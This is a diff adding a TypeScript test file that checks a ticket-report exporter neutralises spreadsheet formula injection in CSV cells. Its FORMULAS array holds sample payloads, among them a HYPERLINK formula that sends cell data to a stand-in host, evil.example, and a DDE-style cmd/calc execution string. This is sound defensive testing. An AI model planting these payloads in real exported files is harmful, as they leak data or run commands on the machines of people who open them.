@@ -1,0 +1,83 @@
+import { Readable } from 'node:stream';
+import { text } from 'node:stream/consumers';
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import {
+  csvSafeCell,
+  reportEncoder,
+  reportRow,
+  type ReportRow,
+} from '../../src/cli/report-command.js';
+import type { ListedTicket } from '../../src/store/ticket-store.js';
+
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?x="&A1,"open")',
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  '+1+2',
+  '-2+3',
+  '\t=1+1',
+  '\r=1+1',
+  '＝HYPERLINK("https://evil.example")',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+];
+
+function ticket(overrides: Partial<ListedTicket>): ListedTicket {
+  return {
+    ticketId: 't-1',
+    biz: 'RPMin',
+    flow: 'server',
+    state: 'passed',
+    version: 3,
+    attempts: 0,
+    createdAt: Date.UTC(2025, 2, 1),
+    updatedAt: Date.UTC(2025, 2, 1),
+    finishedAt: Date.UTC(2025, 2, 1, 0, 1),
+    verdict: { statusCode: 1, similarityScore: 97.5, trustedScore: 99 },
+    ...overrides,
+  } as ListedTicket;
+}
+
+async function csvOf(rows: ReportRow[]): Promise<Record<string, string>[]> {
+  const out = await text(Readable.from(rows).pipe(reportEncoder('csv')));
+  return parse<Record<string, string>>(out, { columns: true });
+}
+
+describe('report cells that a spreadsheet would read as a formula', () => {
+  it('prefixes every text cell starting with = + - @ tab CR (and their full-width forms) with a quote', () => {
+    for (const f of FORMULAS) expect(csvSafeCell(f)).toBe(`'${f}`);
+    for (const plain of ['t-1', 'order 1391012388', '', "'=already", ' =1', 'a=b', '李三']) {
+      expect(csvSafeCell(plain)).toBe(plain);
+    }
+  });
+
+  it('writes formula TicketIds, audit conclusions and error messages as quoted text, numbers as numbers', async () => {
+    const rows = FORMULAS.map((f, i) =>
+      reportRow(
+        ticket({
+          ticketId: f.replace(/[^\x21-\x7e]/g, '') || `t-${i}`,
+          verdict: { statusCode: 2, similarityScore: 12.5, auditConclusions: f },
+          lastError: { code: 'X', message: f, retryable: false, at: 0 },
+        }),
+      ),
+    );
+    const read = await csvOf(rows);
+    expect(read).toHaveLength(FORMULAS.length);
+    for (const [i, row] of read.entries()) {
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
+      expect(row.auditConclusions).toBe(`'${FORMULAS[i]}`);
+      expect(row.errorMessage).toBe(`'${FORMULAS[i]}`);
+      expect(row.similarityScore).toBe('12.5');
+      expect(row.statusCode).toBe('2');
+    }
+    expect(read[0]?.TicketId).toBe(`'${FORMULAS[0]}`);
+    expect(read[3]?.TicketId).toBe("'-2+3");
+  });
+
+  it('leaves the JSONL report as the values are', async () => {
+    const row = reportRow(ticket({ ticketId: '=1+1' }));
+    const out = await text(Readable.from([row]).pipe(reportEncoder('jsonl')));
+    expect(JSON.parse(out)).toMatchObject({ TicketId: '=1+1' });
+  });
+});
